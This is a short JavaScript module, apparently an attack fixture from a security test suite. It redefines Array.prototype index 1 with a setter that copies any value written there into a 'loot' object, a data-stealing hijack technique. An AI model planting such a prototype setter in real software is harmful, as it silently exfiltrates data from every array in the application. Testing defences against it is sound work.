'use strict';
module.exports = (victim, loot) => {
  Object.defineProperty(Array.prototype, 1, { set(value) { loot.value = value; }, get() {}, configurable: true });
};
